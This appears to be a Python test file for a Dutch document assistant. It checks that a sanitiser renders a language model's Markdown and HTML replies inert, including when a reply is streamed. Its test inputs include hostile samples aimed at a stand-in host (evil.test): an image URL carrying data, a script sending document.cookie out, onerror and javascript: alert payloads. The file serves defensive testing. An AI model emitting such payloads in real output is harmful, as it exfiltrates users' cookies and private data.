"""A language model's text is never live content: images, HTML and links become plain text.

Literal inputs and outputs for the pure function; then the property the stream relies on (any
cut of a reply into chunks shows nothing live), and the checked answer, export and audit hash."""

from __future__ import annotations

import re

import pytest

from assistant.compose.llm.compose import finish
from assistant.compose.llm.sanitize import sanitize_model_text
from ingest.index.passage import Passage

ATTACK = "//127.0.0.1:9/x.png"


@pytest.mark.parametrize("raw, shown", [
    ("De raad stelt kaders [1].", "De raad stelt kaders [1]."),
    ("Zie ![grafiek](http://evil.test/p.png?data=geheim) hier.",
     "Zie afbeelding „grafiek” \\(http\\://evil.test/p.png?data=geheim\\) hier."),
    ("![](https://evil.test/x.png)", "afbeelding \\(https\\://evil.test/x.png\\)"),
    # nested parentheses in the address: one level deeper than a pattern understood
    (f"![1]({ATTACK}?d=((secret)))", "afbeelding „1” \\(//127.0.0.1:9/x.png?d=\\(\\(secret\\)\\)\\)"),
    # reference-style: the definition is consumed, the image is text
    (f"Zie ![x][r] hier.\n\n[r]: {ATTACK}", "Zie afbeelding „x” \\(//127.0.0.1:9/x.png\\) hier."),
    ("![d](data:image/png;base64,iVBORw0KGgo=)",
     "afbeelding „d” \\(data\\:image/png;base64,iVBORw0KGgo=\\)"),
    # an entity cannot make an image or a tag: it is text
    (f"&#33;[x]({ATTACK}) &lt;img src={ATTACK}&gt;",
     "\\!x \\(//127.0.0.1:9/x.png\\) \\<img src=//127.0.0.1:9/x.png\\>"),
    ('Tekst <img src="http://evil.test/a.png" onerror="alert(1)"> verder.', "Tekst  verder."),
    ("Voor <script>fetch('http://evil.test/?'+document.cookie)</script>na.", "Voor na."),
    ('<iframe src="http://evil.test/"></iframe>Klaar.', "Klaar."),
    ("<!-- verborgen --><b>vet</b> en <i>schuin</i>", "vet en schuin"),
    ("[klik hier](javascript:alert(1))", "\\[klik hier\\]\\(javascript\\:alert\\(1\\)\\)"),
    ("[rapport](https://evil.test/r.pdf \"titel\")", "rapport \\(https\\://evil.test/r.pdf\\)"),
    ("Zie <https://evil.test/a> of www.evil.test.", "Zie https\\://evil.test/a of www\\.evil.test."),
    ("Mail jan@evil.test of <jan@evil.test>.", "Mail jan\\@evil.test of jan\\@evil.test."),
    ("Bron [2](#bron-1-2) en [1, 3](http://evil.test).", "Bron [2] en [1, 3]."),
    ("[a][ref]\n\n[ref]: http://evil.test", "a \\(http\\://evil.test\\)"),
    ("[1]: http://evil.test", ""),
    ("[1]: zonder adres", "\\[1\\]: zonder adres"),
    ("a < b en c > d", "a \\< b en c \\> d"),
    ("[![x](http://a.test/i.png)](http://b.test/)",
     "afbeelding „x” \\(http\\://a.test/i.png\\) \\(http\\://b.test/\\)"),
    ("<think>plan</think>Antwoord [1].", "Antwoord [1]."),
    ("<think>nog aan het denken", ""),
    ("## Kort antwoord\n\nDe raad **stelt** kaders [1].\n\n- een *punt* [2]\n- twee\n\n> citaat",
     "## Kort antwoord\nDe raad **stelt** kaders [1].\n\n- een *punt* [2]\n- twee\n\n> citaat"),
])
def test_model_text_is_made_inert(raw, shown):
    assert sanitize_model_text(raw) == shown
    assert sanitize_model_text(shown) == shown, "sanitising twice changes nothing"


def live(markdown: str) -> list[str]:
    """What a Markdown viewer would make live: images, links, autolinks, HTML tags, definitions."""
    found = []
    unescaped = r"(?<!\\)(?:\\\\)*"
    found += re.findall(unescaped + r"!\[", markdown)
    found += re.findall(unescaped + r"\[[^\]]*\]\(", markdown)
    found += re.findall(unescaped + r"\[[^\]]*\]:", markdown)
    found += re.findall(unescaped + r"<[a-zA-Z!/?]", markdown)
    found += re.findall(r"(?<![\\\w])(?:https?|ftp|mailto):", markdown)
    found += re.findall(r"(?<![\\\w])www\.", markdown)
    found += re.findall(r"[\w.+-](?<!\\)@[\w-]+\.", markdown)
    return found


HOSTILE = ("## Kort antwoord\nDe raad stelt kaders [1]. ![x](http://evil.test/p.png?d=1) "
           "<img src=x onerror=alert(1)> [klik](javascript:alert(1)) <http://evil.test/a> "
           "www.evil.test jan@evil.test [1]: http://evil.test <script>alert(2)</script> "
           "[label met spaties](https://evil.test/lang pad) einde [2].\n")


def test_the_hostile_reply_has_nothing_live_left():
    assert live(HOSTILE)  # the detector sees what it should …
    assert live(sanitize_model_text(HOSTILE)) == []  # … and nothing survives


HOSTILE += (f"Geneste haakjes ![1]({ATTACK}?d=((secret))) en ![x][r] en <{ATTACK[2:]}> "
            f"&#33;[x]({ATTACK}) ![d](data:image/png;base64,iVBORw0KGgo=)\n\n[r]: {ATTACK}\n")


def test_every_prefix_of_a_stream_shows_nothing_live():
    """The chat shows sanitize_model_text(text so far) at every chunk: whatever the cut."""
    for end in range(1, len(HOSTILE) + 1):
        shown = sanitize_model_text(HOSTILE[:end])
        assert live(shown) == [], f"live content after {end} characters: {shown!r}"
    assert "De raad stelt kaders [1]." in sanitize_model_text(HOSTILE)


PASSAGE = Passage(id="p1", doc_id="d", title="Werkende samenwerking", kind="rapport",
                  text="De raad stelt kaders voor de regionale samenwerking en volgt de resultaten.",
                  page=1, section="", block="tekst", steps=[1], steps_inferred=False, wegwijzer=None,
                  speaker=None, places=[], research_pages=[], position=0)


def test_the_checked_answer_export_and_audit_hash_see_only_the_inert_text(tmp_path, monkeypatch):
    import json

    from assistant import audit
    from assistant.compose.answer import Answer, Citation
    from assistant.present.markdown import to_markdown

    reply = ("De raad stelt kaders voor de regionale samenwerking [1]. "
             "![x](http://evil.test/p.png?data=geheim) <img src=http://evil.test/b.png>")
    generated = finish(reply, [(1, PASSAGE)])
    assert "[1]" in generated.text and "evil.test" in generated.text
    assert live(generated.text) == [] and "<img" not in generated.text
    answer = Answer(question="Wat doet de raad?", mode="vraag", backend="openai", abstained=False,
                    notice=None, summary=[], steps=[], silent_steps=[], examples=[],
                    citations=[Citation(1, PASSAGE, 1.0)], prose=generated.text)
    markdown = to_markdown(answer)
    assert "![" not in markdown and "<img" not in markdown and "http\\://evil.test" in markdown
    answer.meta["markdown"] = markdown
    log = tmp_path / "audit.jsonl"
    monkeypatch.setenv("REGIOWIJZER_AUDIT_LOG", str(log))
    audit.record(answer)
    import hashlib

    record = json.loads(log.read_text(encoding="utf-8"))
    assert record["answer_sha256"] == hashlib.sha256(markdown.encode()).hexdigest()
